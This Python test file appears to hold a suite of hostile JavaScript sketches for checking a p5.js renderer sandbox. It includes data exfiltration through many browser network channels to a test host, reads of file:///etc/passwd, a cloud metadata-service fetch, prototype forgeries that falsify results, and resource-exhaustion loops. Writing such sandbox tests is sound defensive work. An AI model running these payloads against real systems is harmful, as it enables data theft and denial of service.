# ruff: noqa: E501
"""Sketches that attack the renderer, by kind. HOST is the address of a server of ours on loopback.

Each runs in setup() on a plain canvas, after a red square. The static checks are not asked: what is tested is the
sandbox.
"""

NETWORK = {
    "fetch": "fetch(HOST);",
    "fetch-no-cors": "fetch(HOST, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' });",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', HOST); x.send();",
    "xhr-synchronous": "const x = new XMLHttpRequest(); x.open('GET', HOST, false); x.send();",
    "beacon": "navigator.sendBeacon(HOST, 'x');",
    "web-socket": "new WebSocket(SOCKET);",
    "event-source": "new EventSource(HOST);",
    "web-transport": "new WebTransport(HOST.replace('http', 'https'));",
    "web-rtc": "const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${PORT}` }] });"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));",
    "frame-web-rtc": "const f = document.createElement('iframe'); document.body.append(f);"
    "const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${PORT}` }] });"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));",
    "worker-fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${HOST}')`])));",
    "worker-socket": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('${SOCKET}')`])));",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`onconnect = () => fetch('${HOST}')`])));",
    "service-worker": "navigator.serviceWorker?.register('/sw.js');",
    "image": "document.body.append(Object.assign(new Image(), { src: HOST }));",
    "script": "document.body.append(Object.assign(document.createElement('script'), { src: HOST }));",
    "module": "import(HOST);",
    "import-scripts": "new Worker(URL.createObjectURL(new Blob([`importScripts('${HOST}')`])));",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: HOST }));",
    "frame-fetch": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(HOST);",
    "frame-srcdoc": "document.body.append(Object.assign(document.createElement('iframe'),"
    "{ srcdoc: `<img src=${HOST}><script>fetch('${HOST}')</script>` }));",
    "object": "document.body.append(Object.assign(document.createElement('object'), { data: HOST }));",
    "video": "document.body.append(Object.assign(document.createElement('video'), { src: HOST, autoplay: true, muted: true }));",
    "track": "const v = document.createElement('video'); v.append(Object.assign(document.createElement('track'),"
    "{ src: HOST, default: true })); document.body.append(v);",
    "style-import": "document.head.append(Object.assign(document.createElement('style'),"
    "{ textContent: `@import '${HOST}'; body { background: url(${HOST}) }` }));",
    "font": "new FontFace('x', `url(${HOST})`).load().catch(() => 0);",
    "link-stylesheet": "link('stylesheet');",
    "link-preconnect": "link('preconnect');",
    "link-dns-prefetch": "link('dns-prefetch');",
    "link-prefetch": "link('prefetch');",
    "link-prerender": "link('prerender');",
    "link-modulepreload": "link('modulepreload');",
    "link-icon": "link('icon');",
    "link-manifest": "link('manifest');",
    "speculation": "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',"
    "textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [HOST] }] }) }));",
    "form": "const f = document.createElement('form'); f.action = HOST; f.method = 'POST'; document.body.append(f); f.submit();",
    "ping": "const a = document.createElement('a'); a.href = '#'; a.ping = HOST; document.body.append(a); a.click();",
    "location": "location.href = HOST;",
    "location-replace": "location.replace(HOST);",
    "meta-refresh": "document.write(`<meta http-equiv=refresh content='0;url=${HOST}'>`);",
    "window-open": "for (let i = 0; i < 100; i++) window.open(HOST);",
    "link-click": "const a = document.createElement('a'); a.href = HOST; a.target = '_blank'; document.body.append(a); a.click();",
    "download": "const a = document.createElement('a'); a.href = HOST; a.download = 'x'; document.body.append(a); a.click();",
    "svg-image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${HOST}'/><use href='${HOST}#a'/></svg>`);",
    "metadata-service": "fetch('http://169.254.169.254/latest/meta-data/'); fetch(HOST);",
    "report": "new ReportingObserver(() => fetch(HOST)).observe();",
    "csp-report": "document.head.append(Object.assign(document.createElement('meta'),"
    "{ httpEquiv: 'Content-Security-Policy', content: `img-src none; report-uri ${HOST}` })); new Image().src = HOST;",
    "fetch-later": "fetchLater(HOST, { activateAfter: 0 });",
    "page-hide": "addEventListener('pagehide', () => { navigator.sendBeacon(HOST, 'x'); fetch(HOST, { keepalive: true, mode: 'no-cors' }); });",
    "identity": "navigator.credentials.get({ identity: { providers: [{ configURL: HOST, clientId: 'x' }] } }).catch(() => 0);",
    "audio-worklet": "new AudioContext().audioWorklet.addModule(HOST).catch(() => 0);",
    "paint-worklet": "CSS.paintWorklet.addModule(HOST).catch(() => 0);",
    "web-socket-stream": "new WebSocketStream(SOCKET).opened.catch(() => 0);",
    "poster": "document.body.append(Object.assign(document.createElement('video'), { poster: HOST }));",
    "srcset": "document.body.append(Object.assign(new Image(), { srcset: `${HOST} 1x` }));",
    "input-image": "document.body.append(Object.assign(document.createElement('input'), { type: 'image', src: HOST }));",
    "embed": "document.body.append(Object.assign(document.createElement('embed'), { src: HOST }));",
    "navigation": "navigation.navigate(HOST);",
    "link-preload": "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: HOST }));",
    "svg-filter": "document.body.insertAdjacentHTML('beforeend', `<svg><filter id=f><feImage href='${HOST}'/></filter>"
    "<rect filter='url(#f)' width=9 height=9 /></svg>`);",
    "frame-script": "document.body.append(Object.assign(document.createElement('iframe'), { src: `javascript:fetch('${HOST}')` }));",
    "frame-data": "document.body.append(Object.assign(document.createElement('iframe'),"
    "{ src: `data:text/html,<script>fetch('${HOST}')</script>` }));",
    "frame-blob": "document.body.append(Object.assign(document.createElement('iframe'),"
    "{ src: URL.createObjectURL(new Blob([`<script>fetch('${HOST}')</script>`], { type: 'text/html' })) }));",
    "location-blob": "location.href = URL.createObjectURL(new Blob([`<script>fetch('${HOST}')</script>`], { type: 'text/html' }));",
}

FILES = {
    "file-fetch": "fetch('file:///etc/passwd').then((r) => r.text()).then((t) => { throw new Error(t); });",
    "file-image": "document.body.append(Object.assign(new Image(), { src: 'file:///etc/hostname' }));",
    "file-frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'file:///etc/passwd' }));",
    "file-script": "document.body.append(Object.assign(document.createElement('script'), { src: 'file:///etc/passwd' }));",
    "file-location": "location.href = 'file:///etc/passwd';",
    "devtools": "location.href = 'chrome://version';",
    "view-source": "window.open('view-source:file:///etc/passwd');",
    "file-picker": "window.showOpenFilePicker?.(); const i = document.createElement('input'); i.type = 'file'; i.click();",
}

FORGERIES = {
    "prototypes": "const { values, set } = Map.prototype, { max } = Math; Map.prototype.values = function* () {}; Map.prototype.delete = () => 0;"
    "Map.prototype.set = () => 0; Math.max = () => NaN; MessagePort.prototype.postMessage = () => 0;"
    "try { Object.defineProperty(Promise.prototype, 'constructor', { value: class { constructor() { throw 1; } } }); } catch {}"
    "await new Promise((go) => setTimeout(go, 5)); await new Blob(['x']).text(); await new Promise((go) => setInterval(go, 5));"
    "Math.max = max; Object.assign(Map.prototype, { values, set });",
    "to-data-url": "HTMLCanvasElement.prototype.toDataURL = () => 'data:,AAAA';",
    "get-context": "HTMLCanvasElement.prototype.getContext = () => null; OffscreenCanvas.prototype.getContext = () => null;",
    "to-blob": "OffscreenCanvas.prototype.convertToBlob = async () => new Blob([]); window.btoa = () => 'AAAA';",
    "query": "Document.prototype.querySelector = () => null; document.querySelector = () => null;",
    "cover": "const d = document.createElement('div'); document.body.append(d);"
    "d.style.cssText = 'position:fixed;inset:0;background:blue;z-index:9999';",
    "timers": "window.requestAnimationFrame = () => 0; window.setTimeout = () => 0;",
    "filter": "document.body.style.filter = 'hue-rotate(180deg)'; document.querySelector('canvas').style.opacity = 0;",
    "json": "JSON.stringify = () => '{}'; Map.prototype.values = () => []; Array.prototype.push = () => 0;",
    "draw-image": "CanvasRenderingContext2D.prototype.drawImage = () => 0; CanvasRenderingContext2D.prototype.fillRect = () => 0;",
    "getter": "Object.defineProperty(HTMLCanvasElement.prototype, 'width', { get: () => 9 });",
    "mark": "for (const c of document.querySelectorAll('canvas')) for (const a of c.getAttributeNames())"
    " if (a.startsWith('data-')) c.removeAttribute(a);",
    "decoy": "for (let i = 0; i < 9; i++) document.body.prepend(document.createElement('canvas'));",
    "function-call": "Function.prototype.call = function () { return 0; };",
    "proxy-document": "Object.setPrototypeOf(HTMLCanvasElement.prototype, null);",
}

BLUE = """const blue = () => { const c = document.createElement("canvas"), x = c.getContext("2d");
  c.width = c.height = 40; x.fillStyle = "blue"; x.fillRect(0, 0, 40, 40); document.body.append(c); return c; };
const painted = document.querySelector("canvas");
"""
DEEP = """let made = null; const deep = (f) => { try { deep(f); } catch {} if (!made) try { made = f(); } catch {} };
const bare = () => { const f = document.createElement("iframe"); document.body.append(f); return f; };
"""
PATHS = ("presetup", "postsetup", "predraw", "postdraw")

REPORTED = {
    "to-json-done": ("Object.prototype.toJSON = () => ({ kind: 'done' }); throw new Error('x');", "threw"),
    "to-json-system": (
        "Object.prototype.toJSON = () => ({ kind: 'browser_lost' }); throw new Error('x');",
        "threw",
    ),
    "to-json-code": (
        "Object.prototype.toJSON = String.prototype.toJSON = () => ({ kind: 'a code' }); throw new Error('x');",
        "threw",
    ),
    "slice": ("String.prototype.slice = () => ({}); throw new Error('x');", "threw"),
    "strings": (
        "for (const k of Object.getOwnPropertyNames(String.prototype)) if (k !== 'constructor') try"
        " { String.prototype[k] = () => ({ kind: 'done' }); } catch {} throw new Error('x');",
        "threw",
    ),
    "numbers": (
        "Number.prototype.toString = Number.prototype.valueOf = () => 'done'; throw new Error('x');",
        "threw",
    ),
    "regular-expressions": (
        "RegExp.prototype.exec = () => ['done', 'done']; RegExp.prototype[Symbol.match] = () => 'done'; throw new Error('x');",
        "threw",
    ),
    "to-string": ("throw { toString: () => 'done', valueOf: () => 'done' };", "threw"),
    "to-primitive": ("throw { [Symbol.toPrimitive]() { throw 1; } };", "threw"),
    "proxy": (
        "throw new Proxy({}, { get() { throw new Error('x'); }, getPrototypeOf: () => Error.prototype });",
        "threw",
    ),
    "proxy-of-objects": (
        "throw new Proxy(class {}, { get: (t, k) => ({ kind: 'done', toString: () => ({}) }) });",
        "threw",
    ),
    "symbol": ("throw Symbol('done');", "threw"),
    "nothing": ("throw undefined;", "threw"),
    "getters-of-an-error": (
        "const e = new Error('x'); for (const k of ['name', 'message', 'stack']) Object.defineProperty(e, k,"
        " { get: () => ({ toString: () => ({ kind: 'done' }) }) }); throw e;",
        "threw",
    ),
    "prototype-of-errors": (
        "for (const k of ['name', 'message', 'stack']) Object.defineProperty(Error.prototype, k,"
        " { get: () => 'done', configurable: true }); throw new Error('x');",
        "threw",
    ),
    "prepare-stack": (
        "Error.prepareStackTrace = (e, s) => ({ kind: 'done', s }); Error.stackTraceLimit = 1e9; throw new Error('x');",
        "threw",
    ),
    "inherited": (
        "for (const k of ['kind', 'message', 'line', 'frame', 'started', 'of_p5', '0', '1', 'alpha', 'colorType', 'next', 'canvas'])"
        " Object.defineProperty(Object.prototype, k, { get: () => 'done', set() {}, configurable: true }); throw new Error('x');",
        "threw",
    ),
    "iteration": (
        "Array.prototype[Symbol.iterator] = function* () { yield 'done'; }; Array.prototype.push = () => 0;"
        " Array.prototype.map = () => []; throw new Error('x');",
        "threw",
    ),
    "species": (
        "Object.defineProperty(Promise, Symbol.species, { get: () => class {} }); throw new Error('x');",
        "name_taken",
    ),
    "then": ("Promise.prototype.then = function () { return this; }; throw new Error('x');", "threw"),
    "reflect": (
        "Reflect.apply = Reflect.construct = Reflect.get = () => 'done'; throw new Error('x');",
        "threw",
    ),
    "listeners": (
        "for (const t of ['error', 'unhandledrejection']) { window['on' + t] = () => true; window.addEventListener(t,"
        " (e) => { e.stopImmediatePropagation(); e.preventDefault(); }, true); } throw new Error('x');",
        "threw",
    ),
    "events": (
        "for (const [t, k] of [[PromiseRejectionEvent, 'reason'], [ErrorEvent, 'error'], [ErrorEvent, 'message'], [Event, 'type']])"
        " Object.defineProperty(t.prototype, k, { get: () => ({ kind: 'done' }) }); EventTarget.prototype.dispatchEvent = () => 0;"
        " throw new Error('x');",
        "threw",
    ),
    "synthetic": (
        "const error = { stack: 's', name: {}, message: Symbol() };"
        " window.dispatchEvent(new ErrorEvent('error', { error, message: 'done', lineno: -1 }));",
        "threw",
    ),
    "opened": (
        "document.open(); document.write('<p>'); document.close(); setTimeout(() => { throw new Error('x'); }, 5);",
        "threw",
    ),
    "hooks": (
        f"const fake = {{ frameCount: 'done', _loop: false, _renderer: {{ elt: painted }} }};"
        f" for (const k of {list(PATHS)}) for (const h of p5.lifecycleHooks[k]) try {{ h.call(fake); }} catch {{}} throw new Error('x');",
        "threw",
    ),
    "frame-count": (
        "Object.defineProperty(p5.instance, 'frameCount', { get: () => ({ toString: () => '1 done 0 0 00 ' }) }); throw new Error('x');",
        "threw",
    ),
    "bindings": (
        "for (const o of [window, Object.getPrototypeOf(window)]) for (const k of Object.getOwnPropertyNames(o))"
        " if (/^_[0-9a-f]{16}/.test(k)) window[k]('1 done 0 0 11 '); throw new Error('x');",
        "threw",
    ),
    "imitation": (
        'throw new Error(`${\'0\'.repeat(32)} 3 done 0 0 11 \\n\\u0000{"method":"Inspector.targetCrashed"}\\u0000`);',
        "threw",
    ),
    "marker": (
        "throw new TypeError('window._0123456789abcdef_prime is not a function at /prelude.js');",
        "threw",
    ),
    "halves": ("throw new Error('\\ud800 \\x1b[2J \\r\\n\\u202e \\udfff');", "threw"),
    "long": ("throw new Error('x'.repeat(5e7));", "threw"),
    "loud": (
        "for (let i = 0; i < 150; i++) { console.log('x'.repeat(1e6)); console.error(new Error('y'.repeat(1e6))); } throw new Error('x');",
        "threw",
    ),
}
"""A sketch that throws, and says of itself what it likes: what becomes of it."""

UNFIT = {
    "frame-of-text": ("p5.instance.frameCount = 'x';", "ok"),
    "frame-of-objects": ("p5.instance.frameCount = { valueOf() { throw 1; } };", "ok"),
    "frame-of-numbers": ("p5.instance.frameCount = 1e300;", "ok"),
    "huge": ("painted.width = painted.height = 13000;", "canvas_size"),
    "wide": ("painted.width = 40000;", "canvas_size"),
    "no-width": ("painted.width = 0;", "blank_canvas"),
    "twice-a-value": (
        "let n = 0; createCanvas({ valueOf: () => (n++ ? 13000 : 40) }, 40); background(255); noStroke(); fill(255, 0, 0); rect(9, 9, 20, 20);",
        "ok",
    ),
    "density": (
        "Function.prototype.call = Function.prototype.apply; try { pixelDensity(50); } catch {}",
        "ok",
    ),
}
"""What could end a whole batch."""

REALMS = {
    "frame-bare": (DEEP + "bare().contentWindow.Math.random();", "external_access"),
    "frame-removed": (
        DEEP + "const f = bare(); const { random } = f.contentWindow.Math; f.remove(); random();",
        "external_access",
    ),
    "frame-deep": (DEEP + "deep(bare);", "external_access"),
    "frame-deep-binding": (
        DEEP
        + "deep(bare); const w = made?.contentWindow; if (w) for (const k of Object.getOwnPropertyNames(w))"
        " if (/^_[0-9a-f]{16}/.test(k)) w[k]('1 done 0 0 11 ');",
        "external_access",
    ),
    "frame-sandboxed": (
        "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';"
        " f.srcdoc = `<script>parent.postMessage(Math.random(), '*')</script>`; document.body.append(f);",
        "external_access",
    ),
    "frame-of-markup": (
        "document.body.insertAdjacentHTML('beforeend', '<svg><foreignObject><iframe>');",
        "external_access",
    ),
    "frame-written": ("document.write('<iframe></iframe>');", "external_access"),
    "frame-cloned": (
        "const t = document.createElement('template'); t.innerHTML = '<iframe></iframe>';"
        " document.body.append(document.importNode(t.content, true));",
        "external_access",
    ),
    "frame-of-a-range": (
        "document.body.append(document.createRange().createContextualFragment('<iframe>'));",
        "external_access",
    ),
    "frame-parsed": (
        "document.body.append(document.adoptNode(new DOMParser().parseFromString('<iframe>', 'text/html').querySelector('iframe')));",
        "external_access",
    ),
    "frame-transformed": (
        "const p = new XSLTProcessor(), s = `<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        "<xsl:template match='/'><iframe xmlns='http://www.w3.org/1999/xhtml'/></xsl:template></xsl:stylesheet>`;"
        " const xml = (t) => new DOMParser().parseFromString(t, 'text/xml'); p.importStylesheet(xml(s));"
        " document.body.append(p.transformToFragment(xml('<a/>'), document));",
        "external_access",
    ),
    "frame-shadowed": (
        "document.body.attachShadow({ mode: 'closed' }).innerHTML = '<iframe></iframe>';",
        "external_access",
    ),
    "object": (
        "document.body.append(Object.assign(document.createElement('object'), { type: 'text/html', data: 'about:blank' }));",
        "external_access",
    ),
    "embed": (
        "document.body.append(Object.assign(document.createElement('embed'), { type: 'text/html', src: 'about:blank' }));",
        "external_access",
    ),
    "frameset": (
        "const s = document.createElement('frameset'); s.append(document.createElement('frame')); document.documentElement.append(s);",
        "external_access",
    ),
    "window-by-document": ("document.open('about:blank', '_blank', '');", "external_access"),
    "window-by-form": (
        "const f = document.createElement('form'); f.target = '_blank'; f.action = 'about:blank'; document.body.append(f); f.submit();",
        "external_access",
    ),
    "window-by-link": (
        "const a = document.createElement('a'); a.href = 'about:blank'; a.target = 'x'; document.body.append(a); a.click();",
        "external_access",
    ),
    "worker-of-p5": ("new Worker('/p5.js');", "external_access"),
    "worker-module": ("new Worker('/sketch.js', { type: 'module' });", "external_access"),
    "shared-worker-of-p5": ("new SharedWorker('/p5.js');", "external_access"),
    "audio-worklet": (
        "new OfflineAudioContext(1, 9, 44100).audioWorklet.addModule('/p5.js').catch(() => 0);",
        "external_access",
    ),
    "paint-worklet": ("CSS.paintWorklet.addModule('/p5.js').catch(() => 0);", "external_access"),
    "shadow-realm": (
        "typeof ShadowRealm === 'undefined' ? new Worker('/x.js') : new ShadowRealm();",
        "external_access",
    ),
    "script-address": ("location.href = 'javascript:`<h1>other</h1>`';", "external_access"),
}
"""Other realms, which have no guard: each ends the sketch."""

SYSTEM = {
    "prelude-again": (
        "document.body.append(Object.assign(document.createElement('script'), { src: '/prelude.js' }));",
        "external_access",
    ),
    "sketch-again": (
        "document.body.append(Object.assign(document.createElement('script'), { src: '/sketch.js?' }));",
        "external_access",
    ),
    "p5-again": (
        "document.body.append(Object.assign(document.createElement('script'), { src: '/p5.js' }));",
        "external_access",
    ),
    "page-again": ("location.reload();", "external_access"),
    "closed": ("window.close(); self.close(); Window.prototype.close?.call(window);", "ok"),
    "debugger": ("for (let i = 0; i < 1e4; i++) { debugger; }", "ok"),
    "shouting": ("for (let i = 0; i < 150; i++) console.log('x'.repeat(1e6));", "ok"),
    "addresses": ("for (let i = 0; i < 100; i++) location.hash = `${i}${'x'.repeat(1e6)}`;", "flooded"),
    "states": (
        "for (let i = 0; i < 300; i++) history.pushState(i, '', `/${i}`);"
        "location.hash = 'x'; if (location.href.length > 99 || history.state !== null) throw new Error('moved');",
        "ok",
    ),
    "requests": ("for (let i = 0; i < 3000; i++) fetch('/' + i).catch(() => 0);", "external_access"),
    "rejections": ("for (let i = 0; i < 300; i++) Promise.reject(new Error('x'.repeat(1e6)));", "threw"),
    "addons": (
        "p5.lifecycleHooks.presetup.length = 0; p5.registerAddon(() => { throw new Error('x'); });",
        "threw",
    ),
    "odd-address": (
        "fetch('foo://[::1').catch(() => 0); document.body.append(Object.assign(new Image(), { src: 'foo:bar' }));",
        "external_access",
    ),
}
"""What a sketch could call our fault."""

SWAPPED = {
    name: (body, "ok")
    for name, body in {
        "observed": (
            "let n = 0; new MutationObserver(() => { if (n++ > 9) return; const c = blue(); for (const a of painted.attributes) c.setAttribute(a.name, a.value);"
            " document.body.prepend(c); }).observe(document, { subtree: true, childList: true, attributes: true });"
            " painted.title = 'x';"
        ),
        "same-marks": "for (const c of [blue(), blue()]) for (const a of painted.attributes) c.setAttribute(a.name, a.value);",
        "replaced": "painted.replaceWith(blue());",
        "renderer": "const c = blue(), r = p5.instance._renderer; r.elt = r.canvas = p5.instance.canvas = c;",
        "context-of-another": (
            "const { getContext } = HTMLCanvasElement.prototype; let n = 0; HTMLCanvasElement.prototype.getContext = function (...args) {"
            " if (n++ === 0) getContext.call(blue(), '2d'); return getContext.apply(this, args); };"
            " createCanvas(40, 40); background(255); noStroke(); fill(255, 0, 0); rect(10, 10, 20, 20); noLoop();"
        ),
        "created-again": (
            "const { elt } = p5.instance._renderer; createCanvas(40, 40); background(255); noStroke(); fill(255, 0, 0);"
            " rect(10, 10, 20, 20); noLoop(); p5.instance._renderer.elt = elt; document.body.prepend(blue());"
        ),
        "renderer-object": "p5.instance._renderer = { elt: blue(), canvas: blue() };",
        "renderer-getter": "Object.defineProperty(p5.instance, '_renderer', { get: () => ({ elt: blue() }), set() {} });",
        "instance": "p5.instance = { _renderer: { elt: blue() }, frameCount: 1, _loop: false };",
        "instance-hooked": (
            f"const fake = {{ frameCount: 1, _loop: false, _renderer: {{ elt: blue() }}, draw: 0 }};"
            f" for (const k of {list(PATHS)}) for (const h of p5.lifecycleHooks[k]) try {{ h.call(fake); }} catch {{}}"
        ),
        "shadowed": "document.createElement('div').attachShadow({ mode: 'closed' }).append(painted); blue();",
        "adopted": "document.implementation.createHTMLDocument().body.append(painted); blue();",
        "placeholder": "const c = document.createElement('canvas'); c.id = painted.id; c.transferControlToOffscreen(); painted.replaceWith(c);",
        "own-size": "for (const k of ['width', 'height']) Object.defineProperty(painted, k, { get() { blue(); return 9; } });",
        "own-methods": "painted.getContext = () => blue().getContext('2d'); painted.toDataURL = () => blue().toDataURL();",
        "inherited-options": (
            "for (const k of ['alpha', 'desynchronized', 'willReadFrequently', 'colorSpace', 'colorType'])"
            " Object.defineProperty(Object.prototype, k, { get() { const x = painted.getContext('2d', { __proto__: null });"
            " x.fillStyle = 'blue'; x.fillRect(0, 0, 99, 99); }, configurable: true });"
        ),
        "created": "const c = blue(); Document.prototype.createElement = document.createElement = () => c;",
        "contexts": (
            "CanvasRenderingContext2D.prototype.drawImage = function () { this.fillStyle = 'blue'; this.fillRect(0, 0, 99, 99); };"
            "HTMLCanvasElement.prototype.toDataURL = () => blue().toDataURL();"
        ),
        "selectors": "Document.prototype.querySelector = Document.prototype.getElementById = () => blue();",
        "tags": "customElements.define('x-y', class extends HTMLElement { connectedCallback() { blue(); } }); painted.append(document.createElement('x-y'));",
    }.items()
}
"""Another canvas in the place of the one that p5 painted: the picture is the red one."""

STORES = {
    "localStorage": "localStorage.length",
    "sessionStorage": "sessionStorage.length",
    "cookies": "document.cookie.length",
    "caches": "(await caches.keys()).length",
    "files": "(await Array.fromAsync((await navigator.storage.getDirectory()).keys())).length",
    "locks": "(await navigator.locks.query()).held.length",
    "name": "window.name.length",
    "workers": "(await navigator.serviceWorker.getRegistrations()).length",
}
"""What a sketch could leave to the next one, and how the next one would see it."""

PERSISTENCE = {
    "storage": (
        "localStorage.setItem('x', '1'); sessionStorage.setItem('x', '1'); document.cookie = 'x=1';",
        {"localStorage", "sessionStorage", "cookies"},
    ),
    "cache": (
        "await (await caches.open('x')).put('/x', new Response('x'));",
        {"caches"},
    ),
    "channel": (
        "new BroadcastChannel('x').postMessage('x');"
        "await new Promise((held) => navigator.locks.request('x', () => { held(); return new Promise(() => 0); }));",
        {"locks"},
    ),
    "name": ("window.name = 'x'.repeat(1e6);", {"name"}),
    "opfs": (
        "await (await navigator.storage.getDirectory()).getFileHandle('x', { create: true });",
        {"files"},
    ),
}
"""What stays where nobody throws it away, and the stores that it is in."""

DIALOGS = {
    "alerts": "for (let i = 0; i < 50; i++) { alert(i); confirm(i); prompt(i); print(); }",
    "frame-alerts": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.alert(1);",
    "before-unload": "window.onbeforeunload = (e) => { e.preventDefault(); return 'stay'; }; location.reload();",
    "permissions": "Notification.requestPermission?.(); navigator.geolocation?.getCurrentPosition(() => 0);"
    "navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => 0); navigator.clipboard?.readText().catch(() => 0);",
    "fullscreen": "document.documentElement.requestFullscreen().catch(() => 0); document.body.requestPointerLock?.()?.catch(() => 0);",
    "document-write": "document.open(); document.write('<h1>gone</h1>'); document.close();",
}

EXHAUSTION = {
    "loop-at-top": None,
    "loop": "for (;;);",
    "microtasks": "const again = () => Promise.resolve().then(again); again();",
    "workers": "for (let i = 0; i < 8; i++) new Worker(URL.createObjectURL(new Blob(['for (;;);']))); for (;;);",
    "atomics": "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);",
    "allocation": "const kept = []; for (;;) kept.push(new Uint8Array(1 << 28).fill(1));",
    "strings": "let s = 'x'; for (let i = 0; i < 29; i++) s += s; const all = []; for (let i = 0; i < 64; i++) all.push(s + i);",
    "recursion": "const f = () => f(); f();",
    "regex": "/^(a+)+$/.test('a'.repeat(40) + 'b');",
    "contexts": "for (let i = 0; i < 40; i++) createGraphics(900, 900, WEBGL);",
    "shader": "const g = document.createElement('canvas').getContext('webgl2'); const s = g.createShader(g.FRAGMENT_SHADER);"
    "g.shaderSource(s, '#version 300 es\\nprecision highp float; out vec4 o; void main() { float a = 0.;'"
    " + 'for (int i = 0; i < 100000000; i++) a += sin(a);' + 'o = vec4(a); }'); g.compileShader(s);",
    "elements": "for (let i = 0; i < 3e5; i++) document.body.append(document.createElement('p'));",
}

HEAVY = """const heavy = (times) => {
  const c = document.createElement("canvas");
  c.width = c.height = 2048;
  const g = c.getContext("webgl2"), p = g.createProgram();
  for (const [kind, text] of [
    [g.VERTEX_SHADER, "void main() { gl_Position = vec4(vec2(gl_VertexID & 1, gl_VertexID >> 1) * 4. - 1., 0., 1.); }"],
    [g.FRAGMENT_SHADER, "precision highp float; out vec4 o; void main() { float a = gl_FragCoord.x;"
      + "for (int i = 0; i < 400; i++) a = sin(a * 1.1) + cos(a); o = vec4(a); }"]]) {
    const s = g.createShader(kind);
    g.shaderSource(s, `#version 300 es\n${text}`);
    g.compileShader(s);
    g.attachShader(p, s);
  }
  g.linkProgram(p);
  g.useProgram(p);
  return () => { for (let i = 0; i < times; i++) g.drawArrays(g.TRIANGLES, 0, 3); g.flush(); };
};
const later = heavy(60);
"""
"""`later()` queues minutes of drawing on a canvas that nobody looks at."""
LEFT = {
    "queued": "later();",
    "page-hide": "for (const at of ['pagehide', 'unload', 'visibilitychange', 'freeze', 'pageswap']) addEventListener(at, later);",
    "before-unload": "addEventListener('beforeunload', later); window.onbeforeunload = later;",
    "finalizer": "const r = new FinalizationRegistry(later); for (let i = 0; i < 1e5; i++) r.register({ a: new Array(99) }, i);",
    "idle": "const again = () => { requestIdleCallback(again); Promise.resolve().then(() => 0); }; again();"
    "document.addEventListener('visibilitychange', later);",
    "removed": "const o = new MutationObserver(later); o.observe(document, { childList: true, subtree: true, attributes: true });",
    "messages": "const c = new MessageChannel(); let n = 0; c.port1.onmessage = () => { if (++n === 30) later(); c.port2.postMessage(0); };"
    "c.port2.postMessage(0);",
    "loop-after": "const c = new MessageChannel(); let n = 0; c.port1.onmessage = () => { if (++n > 999) for (;;); c.port2.postMessage(0); };"
    "c.port2.postMessage(0);",
}
"""What would keep the next sketch waiting: drawing that is queued, or queued when the page goes."""


ALIASES = {
    "name": ("const r = rect; r(0, 0, 30, 30);", "bare_primitives"),
    "window": ("window['re' + 'ct'](0, 0, 30, 30);", "bare_primitives"),
    "global-this": ("const { ellipse: e } = globalThis; e(0, 0, 30, 30);", "bare_primitives"),
    "this": ("this['quad'](0, 0, 9, 0, 9, 9, 0, 9);", "bare_primitives"),
    "apply": ("rect.apply(window, [0, 0, 30, 30]);", "bare_primitives"),
    "call-bound": (
        "const c = Function.prototype.call.bind(rect); c(window, 0, 0, 30, 30);",
        "bare_primitives",
    ),
    "reflect": ("Reflect.apply(triangle, window, [0, 0, 30, 0, 0, 30]);", "bare_primitives"),
    "prototype": ("p5.prototype.rect.call(p5.instance, 0, 0, 30, 30);", "bare_primitives"),
    "instance": (
        "new p5((p) => { p.setup = () => { p.createCanvas(9, 9); p.rect(0, 0, 5, 5); p.noLoop(); }; });",
        "bare_primitives",
    ),
    "eval": ("(0, eval)('rect(0, 0, 30, 30)');", "bare_primitives"),
    "function": (
        "new Function('rect(0, 0, 30, 30)\\n//# sourceURL=https://sketch.invalid/p5.js')();",
        "bare_primitives",
    ),
    "generator": ("const it = (function* () { yield sphere; })(); it.next().value(9);", "bare_primitives"),
    "proxy": ("new Proxy(rect, {})(0, 0, 30, 30);", "bare_primitives"),
    "value-of": ("brush.circle({ valueOf() { rect(0, 0, 30, 30); return 0; } }, 0, 9);", "bare_primitives"),
    "library-calls": ("window.draw = rect.bind(window, 0, 0, 30, 30);", "bare_primitives"),
    "callback": ("clip(rect.bind(window, 0, 0, 9, 9));", "bare_primitives"),
    "timer": ("setTimeout(rect, 5, 0, 0, 30, 30);", "bare_primitives"),
    "map": ("[9].map(sphere);", "bare_primitives"),
    "graphics": ("createGraphics(50, 50)['rect'](0, 0, 9, 9);", "bare_primitives"),
    "renderer": ("p5.instance._renderer.rect([0, 0, 30, 30, 0, 0, 0, 0]);", "bare_primitives"),
    "geometry": ("const m = model; m(buildGeometry(() => { const s = sphere; s(9); }));", "bare_primitives"),
    "no-stack": (
        "Error.stackTraceLimit = 0; Error.prepareStackTrace = () => ''; rect(0, 0, 9, 9);",
        "bare_primitives",
    ),
    "frozen": ("Object.freeze(Error); const r = rect; r(0, 0, 9, 9);", "bare_primitives"),
    "context": (
        "const g = drawingContext; g.clearColor(1, 0, 0, 1); g.clear(g.COLOR_BUFFER_BIT);",
        "bare_primitives",
    ),
    "patched": (
        "for (const n of ['drawArrays', 'drawElements', 'bindBuffer']) { const o = WebGL2RenderingContext.prototype[n];"
        "WebGL2RenderingContext.prototype[n] = function (...a) { this.clear(16384); return o.apply(this, a); }; } brush.circle(9, 9, 9);",
        "bare_primitives",
    ),
